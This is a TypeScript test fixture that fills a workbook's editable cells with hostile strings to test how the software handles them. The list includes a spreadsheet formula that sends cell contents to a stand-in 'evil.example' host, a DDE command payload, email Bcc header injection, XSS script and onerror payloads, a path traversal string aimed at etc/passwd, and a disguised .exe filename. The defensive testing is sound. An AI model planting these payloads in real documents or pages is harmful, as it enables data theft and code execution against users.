import type { Language } from '../../src/core/model/language';
import type { WorkbookDescription } from '../../src/core/sheets/description';
import { answeredBook, edited } from './caseBook';
import { openCells } from './openCells';

/** Texts that would do harm where they were taken for more than text. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  "+cmd|' /C calc'!A1",
  '@SUM(1+1)*cmd',
  'x\nBcc: evil@evil.example\n\n<b>body</b>',
  '<img src=x onerror="window.top.pwned=1;window.pwned=1">',
  '</textarea><script>window.pwned=1</script>',
  '../../..\\etc:passwd?*|"<>[]',
  '\u202eslxs.exe\u200b',
  '=?UTF-8?B?QmNjOiBldmls?=',
  '{device}{count}{value}$&$1',
  'javascript:alert(1)//http://evil.example',
] as const;

const hostile = (index: number): string => HOSTILE[index % HOSTILE.length] ?? '';

/**
 * A case in which every text that anybody types is hostile, as the workbook itself says what is typed; choices
 * and dates stay as they were. HQ's and the vendor's cells and those of the device's later life are among them.
 * @param isWhole choices and dates are hostile, too, as they are once they were pasted
 */
export function hostileBook(language: Language = 'ja', isWhole = false): WorkbookDescription {
  const book = answeredBook(language);
  const cells = openCells(book).filter(({ isText }) => isWhole || isText);
  return edited(
    book,
    cells.map((place, index) => ({ place, value: hostile(index) })),
  );
}
